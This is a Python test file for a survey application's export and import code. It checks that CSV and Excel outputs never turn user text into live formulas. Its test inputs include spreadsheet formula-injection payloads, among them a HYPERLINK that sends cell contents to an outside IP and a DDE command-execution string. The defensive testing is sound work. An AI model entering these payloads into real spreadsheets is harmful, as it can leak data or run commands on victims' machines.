"""No file that we write calculates what a person typed, whichever way the text went in and comes out."""

import csv
import zipfile
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

import pandas as pd
import pytest
from openpyxl import load_workbook

from survey.actions.asking import Submission, take_response
from survey.actions.exporting import export_responses
from survey.actions.importing import import_file
from survey.domain.counting.period import ALL
from survey.locale import Words
from survey.workbook.export import write_table
from survey.workbook.formulas import STARTS
from survey.workbook.tables import read_table
from survey.workbook.year_end import build_workbook, write_year_end
from tests.conftest import NOW
from tests.workbook.conftest import a_year_end

SLY = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠A1",
    '=HYPERLINK("http://198.51.100.1/?"&A1,"click")', "=cmd|'/C calc'!A0", "'=1+1", "''=1+1", "#REF!",
    '"=1+1', 'a","=1+1', "a\n=1+1", "_x003D_1+1", "_x0000_", "\uffff=1+1", "\x01=1+1",
]
MAP = """
[unit]
value = "ward-urology"
[mode]
value = "qr"
[[question]]
key = "overall"
column = "o"
[[question]]
key = "comment"
column = "=c"
"""


def cells_of(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def is_plain(path: Path) -> bool:
    """Whether every part of a workbook is XML that Excel opens, and no cell is a formula or an error value."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            ElementTree.fromstring(archive.read(name))
    return {cell.data_type for sheet in load_workbook(path) for row in sheet.iter_rows() for cell in row} <= {
        "s", "inlineStr", "n", "d"
    }


def a_response(office, text: str, number: int) -> None:
    raw = {"overall": "5", "comment": text}
    sent = Submission(f"sly-response-{number:04}", "lianxin", "inpatient", 1, "qr", "form", raw, unit="ward-urology")
    take_response(office, sent, NOW)


def test_a_csv_has_no_cell_that_begins_like_a_formula(tmp_path):
    frame = pd.DataFrame({name: [text] for name, text in zip(SLY, reversed(SLY))}, dtype=object)

    write_table(frame, tmp_path / "out.csv", "=1+1")

    assert not [cell for cell in cells_of(tmp_path / "out.csv") if cell.startswith(STARTS)]


def test_a_workbook_holds_text_alone_that_stays_text_when_it_is_edited(tmp_path):
    frame = pd.DataFrame({name: [text] for name, text in zip(SLY, reversed(SLY))}, dtype=object)

    write_table(frame, tmp_path / "out.xlsx", "=1+1")

    assert is_plain(tmp_path / "out.xlsx")
    cells = [cell for row in load_workbook(tmp_path / "out.xlsx").active.iter_rows() for cell in row]
    assert all(cell.quotePrefix for cell in cells if str(cell.value).startswith(STARTS))


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_whatever_was_written_reads_back_as_it_was(tmp_path, ending):
    texts = [text for text in SLY if text.isprintable() or text == "a\n=1+1"]

    write_table(pd.DataFrame({"n": range(len(texts)), "t": texts}, dtype=object), tmp_path / f"out.{ending}", "t")

    assert read_table(tmp_path / f"out.{ending}").cells["t"].tolist() == texts


@pytest.mark.parametrize("has_labels", [True, False])
def test_comments_of_phones_leave_as_text(office, tmp_path, has_labels):
    for number, text in enumerate(SLY):
        a_response(office, text, number)

    for name in ("out.csv", "out.xlsx"):
        export_responses(office, "lianxin", "inpatient", ALL, tmp_path / name, NOW, has_labels)

    assert not [cell for cell in cells_of(tmp_path / "out.csv") if cell.startswith(STARTS)]
    assert is_plain(tmp_path / "out.xlsx")


def test_units_and_questionnaires_with_sly_names_leave_as_text(office, tmp_path):
    sly = Words("=1+1", "=1+1")
    units = {id: replace(unit, name=sly) for id, unit in office.declarations.units.items()}
    programme = office.declarations.programme("lianxin")
    asked = tuple(
        replace(q, title=sly, questions=tuple(replace(question, short=sly) for question in q.questions))
        for q in programme.questionnaires
    )
    programmes = {**office.declarations.programmes, "lianxin": replace(programme, questionnaires=asked)}
    office = replace(office, declarations=replace(office.declarations, units=units, programmes=programmes))
    a_response(office, "=1+1", 1)

    for name in ("out.csv", "out.xlsx"):
        export_responses(office, "lianxin", "inpatient", ALL, tmp_path / name, NOW, with_labels=True)

    assert not [cell for cell in cells_of(tmp_path / "out.csv") if cell.startswith(STARTS)]
    assert is_plain(tmp_path / "out.xlsx")


def test_refused_rows_leave_as_text_and_come_back_as_they_were(office, tmp_path):
    with (tmp_path / "rows.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["o", "=c"], *([text, text] for text in SLY)])
    (tmp_path / "map.toml").write_text(MAP, encoding="utf-8")

    refused = import_file(
        office, "lianxin", "inpatient", tmp_path / "rows.csv", tmp_path / "map.toml", NOW, folder=tmp_path
    ).refused_file

    assert not [cell for cell in cells_of(refused) if cell.startswith(STARTS)]
    kept = read_table(refused).cells["=c"].tolist()
    assert kept == read_table(tmp_path / "rows.csv").cells["=c"].tolist()


def test_a_year_end_workbook_calculates_our_own_formulas_alone(tmp_path):
    year_end = a_year_end()
    names = dict(zip(year_end.declarations.units, SLY)), dict(zip(year_end.declarations.persons, reversed(SLY)))
    units, persons = (
        {id: replace(thing, name=Words(named.get(id, "=1+1"), "=1+1")) for id, thing in things.items()}
        for things, named in zip((year_end.declarations.units, year_end.declarations.persons), names)
    )
    year_end = replace(year_end, declarations=replace(year_end.declarations, units=units, persons=persons))

    workbook, values = build_workbook(year_end, None, lambda done, total: None)
    write_year_end(year_end, tmp_path / "year.xlsx")

    for sheet in workbook:
        formulas = {cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"}
        assert formulas == set(values[sheet.title])
    typed = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "s"]
    assert all(cell.quotePrefix for cell in typed if cell.value.startswith(STARTS))
    with zipfile.ZipFile(tmp_path / "year.xlsx") as archive:
        assert [ElementTree.fromstring(archive.read(name)) is not None for name in archive.namelist()]
